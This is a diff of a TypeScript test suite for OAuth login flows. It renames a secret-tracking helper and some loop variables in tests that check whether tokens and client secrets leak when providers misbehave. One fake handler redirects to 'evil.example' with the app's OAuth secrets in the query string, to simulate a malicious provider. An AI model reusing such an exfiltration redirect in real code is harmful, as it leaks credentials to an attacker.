@@ -31,13 +31,13 @@ let randomnessFails = false
 
 const recorded: RecordedPages = { shown: [], forms: new Set() }
 const search = createSecretSearch()
-const { add: keep } = search
+const { add: addSecret } = search
 
 /** A token endpoint that hands out tokens nobody could guess. */
 const issueTokens: FakeHandler = (seen, response) => {
   const tokens = { access_token: randomToken(), refresh_token: randomToken() }
-  keep('access token', tokens.access_token)
-  keep('refresh token', tokens.refresh_token)
+  addSecret('access token', tokens.access_token)
+  addSecret('refresh token', tokens.refresh_token)
   json({ ...tokens, token_type: 'Bearer', expires_in: 3600 })(seen, response)
 }
 
@@ -73,11 +73,11 @@ before(async () => {
       },
     },
   )
-  keep('key', KEY, Buffer.from(KEY, 'base64url').toString('hex'), Buffer.from(KEY, 'base64url').toString('latin1'))
-  keep('client secret', ...Object.values(CLIENT_SECRETS))
+  addSecret('key', KEY, Buffer.from(KEY, 'base64url').toString('hex'), Buffer.from(KEY, 'base64url').toString('latin1'))
+  addSecret('client secret', ...Object.values(CLIENT_SECRETS))
   await walk()
   // Besides what was sent, what the provider of OAuth 1.0a lent and granted.
-  keep('signed sign-in', ...oauth1App.secrets())
+  addSecret('signed sign-in', ...oauth1App.secrets())
   search.addReceived(fake.requests)
   await addStoredTokens()
 })
@@ -143,7 +143,7 @@ async function failingResponses(): Promise<void> {
     const visitor = newRecordingBrowser()
     const { location = '' } = await visitor.open('/login/acme')
     const back = new URL((await visitor.open(location)).location ?? '')
-    keep('code', back.searchParams.get('code'))
+    addSecret('code', back.searchParams.get('code'))
     bend(back.searchParams)
     await visitor.open(back.href)
     await newRecordingBrowser().open(back.href)
@@ -160,7 +160,7 @@ async function failingResponses(): Promise<void> {
 
 async function badProvider(): Promise<void> {
   const token = randomToken()
-  keep('access token', token)
+  addSecret('access token', token)
   const responses: FakeHandler[] = [
     echo,
     reply(`{"access_token":"${token}","token_type":`),
@@ -176,10 +176,10 @@ async function badProvider(): Promise<void> {
     reply(token.repeat(10_000)),
     (_, response) => void response.socket?.destroy(),
   ]
-  for (const answer of responses) {
+  for (const handler of responses) {
     for (const path of ['/token', '/user']) {
       reset()
-      fake.on(path, answer)
+      fake.on(path, handler)
       const visitor = newRecordingBrowser()
       assert.ok((await visitor.follow('/login/acme')).status >= 400)
     }
@@ -202,9 +202,9 @@ async function failingOAuth1(): Promise<void> {
     (_, response) => void response.redirect(`https://evil.example/?${oauth1App.secrets().join()}`),
   ]
   for (const path of [ASKS, GRANTS, USER]) {
-    for (const answer of echoes) {
+    for (const handler of echoes) {
       reset()
-      oauth1App.on(path, answer)
+      oauth1App.on(path, handler)
       assert.ok((await newRecordingBrowser().follow('/login/trail')).status >= 400)
     }
   }
@@ -222,7 +222,7 @@ async function failingOAuth1(): Promise<void> {
     const visitor = newRecordingBrowser()
     const { location = '' } = await visitor.open('/login/trail')
     const token = new URL(location).searchParams.get('oauth_token') ?? ''
-    for (const somebody of [newRecordingBrowser(), visitor]) await somebody.open(path + encodeURIComponent(token))
+    for (const user of [newRecordingBrowser(), visitor]) await user.open(path + encodeURIComponent(token))
   }
 }
 
@@ -230,7 +230,7 @@ async function failingOAuth1(): Promise<void> {
 async function badDevelopmentProvider(devProvider: string, fault: string): Promise<void> {
   const visitor = newRecordingBrowser()
   const callback = await visitor.callbackUrl('ada', `/login/${devProvider}`, fault)
-  keep('code', new URL(callback).searchParams.get('code'))
+  addSecret('code', new URL(callback).searchParams.get('code'))
   timeoutMs = 300
   await visitor.open(callback)
   await visitor.open('/profile')
